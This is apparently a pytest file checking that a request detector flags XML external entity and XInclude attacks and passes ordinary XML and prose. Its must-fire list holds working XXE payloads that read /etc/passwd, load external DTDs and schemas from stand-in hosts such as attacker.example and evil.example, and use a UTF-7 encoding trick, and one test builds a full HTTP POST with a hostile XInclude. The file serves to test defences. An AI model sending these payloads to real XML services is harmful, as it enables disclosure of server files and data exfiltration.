"""XML external entities and inclusion, in any value and in XML bodies."""

from __future__ import annotations

import pytest

from tests.detect.family_cases import benign_values, families, request_rules

MUST_FIRE = [
    '<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>',
    '<!ENTITY % dtd SYSTEM "http://attacker.example/evil.dtd"> %dtd;',
    '<!DOCTYPE x SYSTEM "//x/x"><x>a</x>',
    '<!DOCTYPE x [ <!ENTITY % y SYSTEM "//y/y" > %y; ]><x>a</x>',
    '<!ENTITY xxe PUBLIC "any" "http://evil.example/e.dtd">',
    '<xi:include href="file:///etc/passwd" parse="text"/>',
    '<root xmlns:xi="http://www.w3.org/2001/XInclude"><a/></root>',
    '<xs:include namespace="http://attacker.example/"/>',
    '<x xsi:schemaLocation="http://attacker.example/schema.xsd"/>',
    '<?xml version="1.0" encoding="UTF-7"?>+ADw-foo+AD4-',
]

MUST_NOT_FIRE = [
    "<Document><Amt Ccy='EUR'>100.00</Amt></Document>",
    'xsi:schemaLocation="urn:iso:std:iso:20022:tech:xsd:pain.001.001.03 pain.xsd"',
    "Entity: ACME Holdings Ltd (system of record)",
    "We include the public key",
]


@pytest.mark.parametrize("payload", MUST_FIRE)
def test_xxe_fires(payload: str) -> None:
    assert "xxe" in families(payload, "body", "xml")


@pytest.mark.parametrize("payload", MUST_NOT_FIRE + benign_values())
def test_ordinary_xml_and_prose_pass(payload: str) -> None:
    assert "xxe" not in families(payload, "body", "xml")


def test_an_xinclude_in_a_parsed_xml_body_fires() -> None:
    body = (
        b'<?xml version="1.0"?><root xmlns:xi="http://www.w3.org/2001/XInclude">'
        b'<xi:include href="http://attacker.example/"/></root>'
    )
    raw = (
        b"POST /payments HTTP/1.1\r\nHost: api.example\r\n"
        b"Content-Type: application/xml\r\nContent-Length: %d\r\n\r\n" % len(body)
    )
    assert "xxe.xinclude" in request_rules(raw + body)
